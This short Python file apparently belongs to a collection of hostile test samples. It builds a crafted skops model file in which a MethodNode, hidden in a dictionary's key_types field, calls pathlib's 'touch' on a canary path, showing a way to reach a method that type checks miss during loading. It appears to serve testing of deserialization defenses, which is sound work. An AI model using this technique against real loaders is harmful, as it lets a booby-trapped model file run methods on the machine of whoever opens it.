"""MethodNode reaches a method by a name that no type check sees."""

from __future__ import annotations

from malicious_samples.recipes import dictionary, json_node, node, sequence, skops


def build(canary: str) -> bytes:
    path = node(
        "ConstructorFromReduceNode",
        "pathlib",
        "PosixPath",
        content=sequence("tuple", json_node(canary)),
    )
    content = {"func": "touch", "obj": path}
    method = node("MethodNode", "pathlib", "PosixPath", content=content)
    root = dictionary(a=json_node(1))
    root["key_types"] = sequence("list", method)
    return skops(root)
